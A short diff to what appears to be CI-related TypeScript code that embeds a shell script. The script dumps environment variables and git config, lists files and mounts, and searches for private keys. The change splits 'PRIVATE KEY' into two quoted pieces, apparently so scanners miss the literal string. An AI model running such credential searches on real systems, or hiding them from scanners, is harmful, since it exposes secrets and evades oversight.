@@ -24,7 +24,7 @@ git config --list --local
 env
 find /run/turbo-hipster /tmp "$HOME" -name .git -prune -o -print | sort
 cat /proc/mounts
-grep -rl 'PRIVATE KEY' /run/turbo-hipster /tmp "$HOME" 2>/dev/null || echo "no key"`;
+grep -rl 'PRIVATE K''EY' /run/turbo-hipster /tmp "$HOME" 2>/dev/null || echo "no key"`;
 
 let root: string;
 let change: ZuulChange;
